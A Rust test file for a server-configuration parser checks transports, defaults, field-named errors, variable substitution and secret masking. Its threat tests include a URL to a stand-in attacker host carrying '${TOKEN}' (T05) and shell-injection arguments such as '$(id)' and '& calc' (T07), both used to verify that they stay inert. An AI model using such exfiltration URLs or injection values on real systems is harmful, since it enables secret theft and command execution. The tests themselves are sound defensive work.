//! Entries as people write them: what they become, what is refused, and what is shown of them.

use std::time::Duration;

use serde_json::{Value, json};
use switchboard_host::config::{
    ConfigErrorKind, OffReason, RestartPolicy, ServerConfig, SharePolicy, StartPolicy, TransportConfig,
};
use switchboard_host::{ServerSpec, Transport};
use switchboard_transport::http::client::Http;
use switchboard_transport::stdio::Stdio;

fn entry(value: Value) -> ServerConfig {
    serde_json::from_value(value).unwrap()
}

fn spec(value: Value) -> ServerSpec {
    entry(value).resolve(&variables).unwrap().into()
}

fn stdio(spec: &ServerSpec) -> &Stdio {
    let Transport::Stdio(stdio) = &spec.transport else { panic!("{spec:?}") };
    stdio
}

fn http(spec: &ServerSpec) -> &Http {
    let Transport::Http(http) = &spec.transport else { panic!("{spec:?}") };
    http
}

fn variables(name: &str) -> Option<String> {
    match name {
        "TOKEN" => Some("s3cr3t".into()),
        "HOST" => Some("example.com".into()),
        "BROKEN" => Some("a\nb".into()),
        _ => None,
    }
}

fn problem(value: Value) -> (String, ConfigErrorKind) {
    let error = entry(value).resolve(&variables).unwrap_err();
    (error.field().to_owned(), error.kind().clone())
}

#[test]
fn all_five_types_are_read_and_the_type_may_be_left_out() {
    for (value, word) in [
        (json!({"command": "npx"}), "stdio"),
        (json!({"type": "stdio", "command": "npx", "args": ["-y"], "env": {"A": "b"}}), "stdio"),
        (json!({"url": "https://example.com/mcp"}), "http"),
        (json!({"type": "http", "url": "https://example.com/mcp", "headers": {"A": "b"}}), "http"),
        (json!({"type": "streamable-http", "url": "https://example.com/mcp"}), "http"),
        (json!({"type": "sse", "url": "https://example.com/sse"}), "sse"),
        (json!({"type": "sdk", "name": "local"}), "sdk"),
        (json!({"type": "claudeai-proxy", "url": "https://example.com/{id}", "id": "abc"}), "claudeai-proxy"),
    ] {
        let read = entry(value);
        assert_eq!(read.transport.type_name(), word);
        let again: ServerConfig = serde_json::from_str(&serde_json::to_string(&read).unwrap()).unwrap();
        assert_eq!(again, read);
    }
}

#[test]
fn a_plan_has_variables_filled_in_everywhere_but_in_the_command() {
    let spec = spec(json!({
        "command": "${TOKEN}", "args": ["--at=${HOST}", "${NO:-d}"], "env": {"KEY": "x${TOKEN}"}, "cwd": "/srv/${HOST}",
    }));
    let stdio = stdio(&spec);
    assert_eq!(stdio.program(), "${TOKEN}");
    assert_eq!(stdio.arguments(), ["--at=example.com", "d"]);
    assert_eq!(stdio.variables(), [("KEY".into(), "xs3cr3t".into())]);
    assert_eq!(stdio.directory().unwrap().to_str(), Some("/srv/example.com"));

    let spec = self::spec(
        json!({"url": "https://${HOST}/mcp?k=${TOKEN}", "headers": {"Authorization": "Bearer ${TOKEN}"}}),
    );
    let http = http(&spec);
    assert!(!http.is_sse() && !http.allows_plain_http());
    assert_eq!(http.url(), "https://example.com/mcp?k=s3cr3t");
    assert_eq!(http.headers(), [("Authorization".into(), "Bearer s3cr3t".into())]);

    let spec =
        self::spec(json!({"type": "claudeai-proxy", "url": "https://${HOST}/v1/{id}/mcp", "id": "a/b"}));
    let proxy = Transport::Proxy { url: "https://example.com/v1/a%2Fb/mcp".into(), id: "a/b".into() };
    assert_eq!(spec.transport, proxy);
}

#[test]
fn settings_have_defaults_and_bounds() {
    let bare = spec(json!({"command": "x"}));
    assert_eq!(
        (bare.start, bare.restart, bare.required, bare.startup_timeout, bare.call_timeout),
        (
            StartPolicy::AtOnce,
            RestartPolicy::WithBackoff { max_failures: 5 },
            false,
            Duration::from_secs(60),
            None
        )
    );
    let full = spec(json!({
        "command": "x", "required": true, "lazy": true, "timeout": 1500, "startupTimeout": 2000, "restart": "never",
        "share": "per-root", "idleTimeout": 90000,
        "allowTools": ["read_*"], "denyTools": ["*_all"],
    }));
    assert_eq!(
        (full.start, full.restart, full.required),
        (StartPolicy::WhenUsed, RestartPolicy::Never, true)
    );
    assert_eq!(
        (full.startup_timeout, full.call_timeout),
        (Duration::from_secs(2), Some(Duration::from_millis(1500)))
    );
    assert_eq!((full.allow_tools, full.deny_tools), (vec!["read_*".to_owned()], vec!["*_all".to_owned()]));
    assert_eq!((full.share, full.idle_timeout), (Some(SharePolicy::PerRoot), Some(Duration::from_secs(90))));
    assert_eq!(bare.share_policy(), SharePolicy::PerPrincipal);
    assert_eq!(spec(json!({"url": "https://example.org/mcp"})).share_policy(), SharePolicy::Always);
    let off = spec(json!({"command": "x", "disabled": true, "lazy": true, "restart": 3}));
    assert_eq!(
        (off.start, off.restart),
        (StartPolicy::Off(OffReason::Disabled), RestartPolicy::WithBackoff { max_failures: 3 })
    );
}

#[test]
fn what_does_not_fit_is_named_with_its_field() {
    for (value, expected) in [
        (json!([]), "expected an object, found a list"),
        (json!({}), "this server has no transport; give it a `command` or a `url`"),
        (json!({"type": "stdio"}), "a server of type `stdio` needs a `command`"),
        (
            json!({"type": "http", "command": "x"}),
            "command: a server of type `http` cannot have `command`; remove it, or change the type",
        ),
        (
            json!({"url": "x", "command": "x"}),
            "url: a server of type `stdio` cannot have `url`; remove it, or change the type",
        ),
        (
            json!({"command": "x", "share": "sometimes"}),
            "share: must be \"per-principal\", \"always\", \"per-session\" or \"per-root\"",
        ),
        (
            json!({"type": "ws", "url": "x"}),
            "type: unknown server type `ws`; use stdio, http, sse, sdk or claudeai-proxy",
        ),
        (
            json!({"command": "x", "args": ["a", 1]}),
            "args[1]: expected a string in double quotes, found a number",
        ),
        (json!({"command": "x", "args": "a b"}), "args: expected a list of strings, found a string"),
        (
            json!({"command": "x", "env": {"PORT": 80}}),
            "env.PORT: expected a string in double quotes, found a number",
        ),
        (
            json!({"command": "x", "timeout": 0}),
            "timeout: must be a whole number of milliseconds, from 1 to one day",
        ),
        (
            json!({"command": "x", "timeout": 86_400_001}),
            "timeout: must be a whole number of milliseconds, from 1 to one day",
        ),
        (
            json!({"command": "x", "restart": "always"}),
            "restart: must be \"never\", or a number of tries from 1 to 1000",
        ),
        (json!({"command": "x", "disabled": "yes"}), "disabled: expected true or false, found a string"),
    ] {
        let error = serde_json::from_value::<ServerConfig>(value).unwrap_err();
        assert_eq!(error.to_string(), expected);
    }
}

#[test]
fn a_plan_that_cannot_be_made_names_field_and_variable() {
    let unset = |variable: &str| ConfigErrorKind::UnsetVariable { variable: variable.into() };
    assert_eq!(problem(json!({"command": "x", "args": ["a", "${NO}"]})), ("args[1]".into(), unset("NO")));
    assert_eq!(problem(json!({"command": "x", "env": {"K": "${NO}"}})), ("env.K".into(), unset("NO")));
    assert_eq!(problem(json!({"command": "x", "cwd": "${NO}"})), ("cwd".into(), unset("NO")));
    assert_eq!(problem(json!({"url": "https://${NO}"})), ("url".into(), unset("NO")));
    let (field, problem) = problem(json!({"url": "https://h", "headers": {"A": "${NO}"}}));
    assert_eq!(
        (field.as_str(), problem.to_string().as_str()),
        ("headers.A", "the variable NO is not set; set it, or write ${NO:-default}")
    );
}

#[test]
fn what_could_not_be_run_is_refused_before_it_is_tried() {
    for (value, field) in [
        (json!({"command": " "}), "command"),
        (json!({"command": "a\0b"}), "command"),
        (json!({"command": "x", "args": ["a\0"]}), "args[0]"),
        (json!({"command": "x", "env": {"A=B": "c"}}), "env.A=B"),
        (json!({"command": "x", "inheritEnv": [""]}), "inheritEnv[0]"),
        (json!({"command": "x", "cwd": ""}), "cwd"),
        (json!({"url": "example.com/mcp"}), "url"),
        (json!({"url": "ftp://example.com"}), "url"),
        (json!({"url": "http://example.com/mcp"}), "url"),
        (json!({"url": "https://user:pw@example.com/mcp"}), "url"),
        (json!({"url": "https://h", "headers": {"A B": "c"}}), "headers.A B"),
        (json!({"url": "https://h", "headers": {"A": "${BROKEN}"}}), "headers.A"),
        (json!({"type": "sdk", "name": ""}), "name"),
        (json!({"type": "claudeai-proxy", "url": "https://h/{id}", "id": ""}), "id"),
    ] {
        assert_eq!(problem(value.clone()).0, field, "{value}");
    }
    _ = spec(json!({"url": "http://127.0.0.1:8080/mcp"}));
    _ = spec(json!({"url": "http://example.com/mcp", "allowHttp": true}));
}

#[test]
fn what_is_not_known_is_kept_in_its_order() {
    let text = r#"{"type":"stdio","command":"x","zebra":1,"alwaysLoad":true,"oauth":{"clientId":"c"}}"#;
    let entry: ServerConfig = serde_json::from_str(text).unwrap();
    let unknown: Vec<&str> = entry.unknown.iter().map(|(key, _)| key.as_str()).collect();
    assert_eq!(unknown.len(), 3);
    let again: Value = serde_json::to_value(&entry).unwrap();
    assert_eq!(again, serde_json::from_str::<Value>(text).unwrap());
}

#[test]
fn what_is_shown_is_as_written_with_literals_covered() {
    let written = json!({
        "type": "stdio", "command": "npx", "args": ["-y", "pkg", "--api-key", "s3cr3t", "${TOKEN}"],
        "env": {"LITERAL": "s3cr3t", "REFERENCE": "${TOKEN}", "BOTH": "${TOKEN:-s3cr3t}"}, "vendor": {"apiKey": "s3cr3t"},
    });
    let shown = entry(written).masked();
    assert_eq!(
        shown,
        json!({
            "type": "stdio", "command": "npx", "args": ["-y", "pkg", "--api-key", "••••", "${TOKEN}"],
            "env": {"LITERAL": "••••", "REFERENCE": "${TOKEN}", "BOTH": "${TOKEN:-••••}"}, "vendor": {"apiKey": "••••"},
        })
    );
}

#[test]
fn no_debug_text_or_error_shows_a_secret() {
    let written = [
        json!({"command": "x", "args": ["--token", "s3cr3t", "${TOKEN}"], "env": {"A": "s3cr3t", "B": "${TOKEN}"}}),
        json!({"url": "https://h/?token=s3cr3t&t=${TOKEN}", "headers": {"A": "s3cr3t", "B": "Bearer ${TOKEN}"}}),
    ];
    for value in written {
        let entry = entry(value);
        let plan = entry.resolve(&variables).unwrap();
        let spec = ServerSpec::from(&plan);
        let unapproved = entry.unapproved();
        let ServerConfig { transport: kind, .. } = &entry;
        let text =
            format!("{entry:?} {entry:#?} {kind:?} {plan:?} {plan:#?} {spec:?} {spec:#?} {unapproved:?}");
        assert!(!text.contains("s3cr3t"), "{text}");
    }
    for value in [
        json!({"url": "${TOKEN}"}),
        json!({"url": "${TOKEN}://x"}),
        json!({"url": "https://${TOKEN}:x/"}),
        json!({"url": "https://h:${TOKEN}/"}),
        json!({"url": "https://h/", "headers": {"A": "s3cr3t\n"}}),
    ] {
        let error = entry(value).resolve(&variables).unwrap_err();
        assert!(!format!("{error} {error:?}").contains("s3cr3t"), "{error}");
    }
}

/// A project's `${AWS_SECRET_ACCESS_KEY}` in an address would be sent on connecting.
#[test]
#[expect(non_snake_case, reason = "threats are tested under their ids")]
fn T05_nothing_is_filled_in_before_approval_and_the_variables_are_named() {
    let entry = entry(json!({"url": "https://evil.example/?k=${TOKEN}", "headers": {"X": "${HOST:-h}"}}));
    let spec = ServerSpec::from(entry.unapproved());
    assert_eq!(spec.start, StartPolicy::Off(OffReason::Unapproved));
    assert_eq!(http(&spec).url(), "https://evil.example/?k=${TOKEN}");
    assert_eq!(http(&spec).headers(), [("X".into(), "${HOST:-h}".into())]);
    assert_eq!(entry.variables().into_iter().collect::<Vec<_>>(), ["HOST", "TOKEN"]);
}

/// A server's name or argument once reached a shell.
#[test]
#[expect(non_snake_case, reason = "threats are tested under their ids")]
fn T07_arguments_are_a_list_and_reach_the_plan_as_they_are() {
    let hostile = ["& calc", "$(id)", "`id`", "a b", "\"", "'", "|", ";", "%PATH%", "--", "\n", ""];
    let spec = spec(json!({"command": "x & y", "args": hostile}));
    assert_eq!(stdio(&spec).program(), "x & y");
    assert_eq!(stdio(&spec).arguments(), hostile);
}

/// A server is given the variables its entry names, and no others.
#[test]
#[expect(non_snake_case, reason = "threats are tested under their ids")]
fn T08_only_named_variables_are_in_the_plan() {
    let spec = spec(json!({"command": "x", "env": {"A": "b"}, "inheritEnv": ["SSH_AUTH_SOCK"]}));
    assert_eq!(stdio(&spec).variables(), [("A".into(), "b".into())]);
    assert_eq!(stdio(&spec).inherited_variables(), ["SSH_AUTH_SOCK"]);
    let TransportConfig::Stdio { inherit_env, .. } = ServerConfig::stdio("x", ["y"]).transport else {
        panic!()
    };
    assert!(inherit_env.is_empty());
}
